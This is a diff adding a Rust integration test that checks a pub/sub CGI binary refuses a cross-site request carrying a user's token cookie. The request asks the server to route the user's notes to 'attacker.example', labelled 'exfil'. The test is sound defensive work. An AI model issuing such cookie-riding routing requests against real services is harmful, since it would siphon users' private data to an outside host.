@@ -121,3 +121,40 @@ fn a_stream_whose_type_lists_several_is_served_as_an_attachment() {
         }
     }
 }
+
+/// The same attack on `pubsub.cgi` (the real binary run as a CGI process,
+/// as a web server runs it): a cross-site `GET` carrying anna's token
+/// cookie makes no route to a remote URL.
+#[test]
+fn a_cookie_from_another_site_makes_no_route_to_a_remote_url_through_the_cgi() {
+    let dir = Dir::new("attack-cookie-remote-route-cgi");
+    let root = dir.store("events");
+    let cookie = format!("kn_token={}", token(&root, "anna"));
+    let run = |fetch_site: &str| {
+        let out = std::process::Command::new(env!("CARGO_BIN_EXE_pubsub-cgi"))
+            .env_clear()
+            .envs([
+                ("GATEWAY_INTERFACE", "CGI/1.1"),
+                ("REQUEST_METHOD", "GET"),
+                ("SERVER_NAME", "pubsub.example"),
+                ("SERVER_PORT", "80"),
+                ("HTTP_HOST", "pubsub.example"),
+                ("SCRIPT_NAME", "/kn"),
+                ("KN_OUTBOUND", "allow"),
+                ("HTTP_COOKIE", cookie.as_str()),
+                ("HTTP_SEC_FETCH_SITE", fetch_site),
+                ("QUERY_STRING", "do_method=route&kn_from=/who/anna/notes&kn_to=http://attacker.example/kn/what/loot&kn_id=exfil&kn_response_format=simple"),
+            ])
+            .env("KN_EVENTS", &root)
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let answer = run("cross-site");
+    assert!(answer.starts_with("Status: 403"), "{answer}");
+    let store = kn_journal::Store::open(&root).unwrap();
+    let notes = kn_journal::Topic::parse("/who/anna/notes").unwrap();
+    assert!(store.routes(&notes).unwrap().is_empty(), "{:?}", store.routes(&notes).unwrap());
+    let answer = run("same-origin");
+    assert!(answer.starts_with("Status: 200"), "{answer}");
+}
